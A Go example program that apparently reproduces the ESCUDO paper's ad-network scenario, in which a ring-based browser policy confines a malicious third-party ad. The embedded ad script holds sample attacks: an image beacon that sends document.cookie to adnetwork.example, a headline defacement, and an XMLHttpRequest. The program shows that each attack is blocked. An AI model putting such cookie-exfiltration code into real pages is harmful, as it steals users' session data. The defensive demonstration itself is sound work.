// The adnetwork example reproduces the paper's §1 motivating scenario:
// "a blog publisher may sell a small portion of his web page to an
// advertising network. ... The publisher has no further control over
// what appears in that ad space — he trusts the network to have
// verified all content."
//
// With ESCUDO the publisher stops trusting the network: the ad slot is
// an outer-ring AC scope, so a malicious JavaScript ad can still
// render itself and talk to its own slot, but it cannot read the
// publisher's session cookie, rewrite the page, or use the
// XMLHttpRequest API — no verifier (ADsafe et al.) needed.
//
// Run with:
//
//	go run ./examples/adnetwork
package main

import (
	"fmt"
	"strings"

	escudo "repro"

	"repro/internal/html"
)

// publisherPage sells the #adslot region to the network. The ad
// script below is what an attacker posing as an advertiser shipped.
const publisherPage = `<html>
<head><title>The Daily Publisher</title></head>
<body>
<div ring=1 r=1 w=1 x=1 id=content nonce=101>
  <h1 id=headline>Exclusive: rings protect pages</h1>
  <p id=article>Quality journalism goes here.</p>
</div nonce=101>
<div ring=2 r=2 w=2 x=2 id=adslot nonce=102>
  <script id=ad-render>
    // The legitimate part: the ad renders itself into its own slot
    // and reports an (empty, as it turns out) cookie haul home.
    var slot = document.getElementById("adslot");
    slot.innerHTML = "<p id=banner>BUY N0W: miracle supplements</p>";
    var beacon = new Image();
    beacon.src = "http://adnetwork.example/track?c=" + encodeURIComponent(document.cookie);
  </script>
  <script id=ad-deface>
    document.getElementById("headline").innerText = "ADVERTORIAL";
  </script>
  <script id=ad-xhr>
    var x = new XMLHttpRequest();
    x.open("GET", "/account");
    x.send();
  </script>
</div nonce=102>
</body></html>`

func main() {
	pub := escudo.MustParseOrigin("http://publisher.example")
	adnet := escudo.MustParseOrigin("http://adnetwork.example")

	net := escudo.NewNetwork()
	net.Register(pub, escudo.HandlerFunc(func(req *escudo.Request) *escudo.Response {
		resp := escudo.HTMLResponse(publisherPage)
		resp.Header.Set("X-Escudo-Maxring", "3")
		resp.Header.Add("Set-Cookie", "pubsession=readers-secret; Path=/")
		resp.Header.Add("X-Escudo-Cookie", "pubsession; ring=1; r=1; w=1; x=1")
		resp.Header.Add("X-Escudo-Api", "xmlhttprequest; ring=1")
		return resp
	}))
	net.Register(adnet, escudo.HandlerFunc(func(req *escudo.Request) *escudo.Response {
		return escudo.HTMLResponse("")
	}))

	b, err := escudo.New(net)
	if err != nil {
		panic(err)
	}
	if _, err := b.Navigate("http://publisher.example/"); err != nil {
		panic(err)
	}
	p, err := b.Navigate("http://publisher.example/")
	if err != nil {
		panic(err)
	}

	fmt.Println("The publisher page after the third-party ad executed (ESCUDO):")
	fmt.Println()
	fmt.Printf("  headline:      %q\n", strings.TrimSpace(html.InnerText(p.Doc.ByID("headline"))))
	if banner := p.Doc.ByID("banner"); banner != nil {
		fmt.Printf("  ad rendered:   %q (in ring %d)\n", strings.TrimSpace(html.InnerText(banner)), banner.Ring)
	}
	tracked := "no request"
	for _, e := range net.FindRequests(adnet, nil) {
		if strings.Contains(e.URL, "track") {
			tracked = e.URL
		}
	}
	fmt.Printf("  tracking beacon: %s\n", tracked)
	fmt.Println()
	fmt.Println("  what the ad was denied:")
	for _, e := range p.ScriptErrors {
		fmt.Printf("    - %s\n", firstLine(e.Error()))
	}
	fmt.Println()
	fmt.Println("The ad renders inside its ring-2 slot, but the cookie read came")
	fmt.Println("back empty, the headline write was denied by the ring rule, and")
	fmt.Println("the XMLHttpRequest API (ring 1) was out of reach. The publisher")
	fmt.Println("never had to trust the ad network's verifier (paper §1, §7).")
}

func firstLine(s string) string {
	if i := strings.IndexByte(s, '\n'); i >= 0 {
		return s[:i]
	}
	return s
}
